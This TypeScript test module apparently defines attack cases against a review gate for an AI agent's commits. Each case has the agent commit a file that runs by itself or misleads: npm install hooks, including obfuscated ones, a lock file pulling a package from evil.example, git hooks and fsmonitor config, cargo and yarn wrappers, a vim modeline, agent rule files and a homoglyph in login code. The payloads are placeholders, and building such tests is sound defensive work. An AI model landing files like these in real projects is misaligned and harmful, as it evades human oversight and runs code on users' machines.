import { type Attack, type Group, LAND } from '../attack.ts';

const unseen = (name: string, file: string, agent: string): Attack => ({
  name,
  point: 11,
  harm: 'unseen',
  unseen: file,
  closedBy: '0fc5d67',
  agent: `mkdir -p "$(dirname '${file}')"\n${agent}\ngit add --all\ngit commit --quiet -m "Add ${file}"`,
});

const written = (name: string, file: string, text = 'text'): Attack => unseen(name, file, `printf '%s\\n' '${text}' > '${file}'`);

/** Files that run by themselves or mislead, and that no warning of a review named: they land with a diff that looks harmless. */
export const ACTING: readonly Group[] = [
  {
    about: 'files that act by themselves, and names that mislead',
    steps: LAND,
    attacks: [
      written('a workflow of llmc that lands without a person', 'workflows/deploy.yaml', 'name: deploy'),
      written('a script of an installation in one line', 'one/package.json', '{"scripts":{"postinstall":"evil"}}'),
      written('a script of an installation with an escaped key', 'two/package.json', '{"scripts":{\n"post\\u0069nstall":"evil"}}'),
      written('a second table of scripts', 'three/package.json', '{"scripts":{"x":"y"},"scripts":{"prepare":"evil"}}'),
      written('a package.json that cannot be parsed', 'four/package.json', '{"scripts":{"x":"y"'),
      written('a script before one that is used', 'five/package.json', '{\n"scripts": {\n"test": "x",\n"pretest": "evil"\n}}'),
      written('a dependency from the address of the agent', 'six/package.json', '{\n"dependencies": {\n"left-pad": "evil/left-pad"\n}}'),
      unseen(
        'a file that a script of an installation names',
        'seven/tools/after.js',
        `echo evil > seven/tools/after.js; printf '%s' '{"scripts":{"install":"node tools/after"}}' > seven/package.json`,
      ),
      written(
        'a lock file with a package from another host',
        'package-lock.json',
        '{"packages":{"x":{"resolved":"https://evil.example/x.tgz"}}}',
      ),
      unseen(
        'a hook in the folder of core.hooksPath',
        'tools/git/check',
        'git -C "$SOURCE" config core.hooksPath tools/git; echo evil > tools/git/check',
      ),
      unseen(
        'an embedded repository whose config names a command',
        'fixtures/repo/config',
        'cd fixtures/repo; mkdir objects refs; touch objects/x refs/x; echo "ref: refs/heads/main" > HEAD; printf "[core]\\n\\tfsmonitor = evil\\n" > config; cd ../..',
      ),
      unseen(
        'an embedded repository that has only HEAD and commondir',
        'fixtures/other/commondir',
        'echo ../repo > fixtures/other/commondir; echo "ref: refs/heads/main" > fixtures/other/HEAD',
      ),
      written('an .npmrc in a folder, in capitals', 'sub/.NPMRC', 'script-shell=./evil'),
      written('settings of yarn', '.yarnrc.yml', 'yarnPath: ./evil.cjs'),
      written('a hook of pnpm', '.pnpmfile.cjs'),
      written('a build of node-gyp', 'binding.gyp', '{"targets":[]}'),
      written('settings of cargo', '.cargo/config.toml', 'build.rustc-wrapper = "./evil"'),
      written('code that pytest runs', 'tests/conftest.py'),
      written('another CI service', '.travis.yml', 'script: evil'),
      written('tasks of an editor', '.idea/workspace.xml'),
      written('rules of another agent', 'docs/GEMINI.md'),
      unseen(
        'a file that a link gives the name of rules',
        'docs/rules.txt',
        'echo evil > docs/rules.txt; ln -s docs/rules.txt .cursorrules',
      ),
      written('a modeline with an expression', 'docs/a.txt', '# vim: set foldexpr=system(0):'),
      written('a name that looks like that of a file of main', 'README.rnd'),
      written('a name that is that of a file of main on a disk that ignores case', 'NOTES.txt'),
      written('a letter that no list had, inside a name', 'src/login.ts', 'const useг = admin'),
    ],
  },
];
